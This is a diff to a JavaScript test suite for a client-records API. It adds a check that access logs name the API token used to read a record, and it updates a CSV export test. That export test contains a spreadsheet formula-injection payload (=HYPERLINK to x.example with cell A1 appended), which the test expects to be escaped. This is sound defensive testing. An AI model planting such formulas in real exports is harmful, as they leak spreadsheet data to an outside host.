@@ -174,6 +174,36 @@ describe('clients', () => {
     ]);
   });
 
+  it('names the system token a look came through in the access log and its CSV', async () => {
+    const client = await test.services.clients.create(ctx, {
+      kind: 'person',
+      givenName: 'Rita',
+      surname: 'Kalna',
+    });
+    const name = `Tālruņu centrāle ${unique()}`;
+    const { token } = await test.services.tokens.create(ctx, { name, roles: ['auditor'] });
+    const read = await test.app.inject({
+      method: 'GET',
+      url: `/api/v1/clients/${client.id}`,
+      headers: { authorization: `Bearer ${token}` },
+    });
+    expect(read.statusCode, read.body).toBe(200);
+
+    const head = await signedIn(test, { roles: ['client_service_head'] });
+    const log = await call(test.app, head, {
+      method: 'GET',
+      url: `/api/v1/clients/${client.id}/access-log?format=json`,
+    });
+    expect(log.json()).toMatchObject({
+      entries: [{ staffId: null, staffName: null, tokenName: name }],
+    });
+    const csv = await call(test.app, head, {
+      method: 'GET',
+      url: `/api/v1/clients/${client.id}/access-log?format=csv`,
+    });
+    expect(csv.body).toContain(`,${name},`);
+  });
+
   describe('merging duplicates', () => {
     it('moves the duplicate’s requests to the record that stays, and hides the duplicate', async () => {
       const head = await signedIn(test, { roles: ['client_service_head'] });
@@ -252,9 +282,9 @@ describe('clients', () => {
       expect(csv.statusCode, csv.body).toBe(200);
       expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
       const [header, line, end] = csv.body.split('\r\n');
-      expect(header).toBe('at,staff,request');
+      expect(header).toBe('at,staff,token,request');
       expect(line).toMatch(
-        /^\d{4}-\d\d-\d\dT[\d:.]+Z,"'=HYPERLINK\(""http:\/\/x\.example\/\?""&A1 ""Klikšķini""\)",$/,
+        /^\d{4}-\d\d-\d\dT[\d:.]+Z,"'=HYPERLINK\(""http:\/\/x\.example\/\?""&A1 ""Klikšķini""\)",,$/,
       );
       expect(end).toBe('');
     });
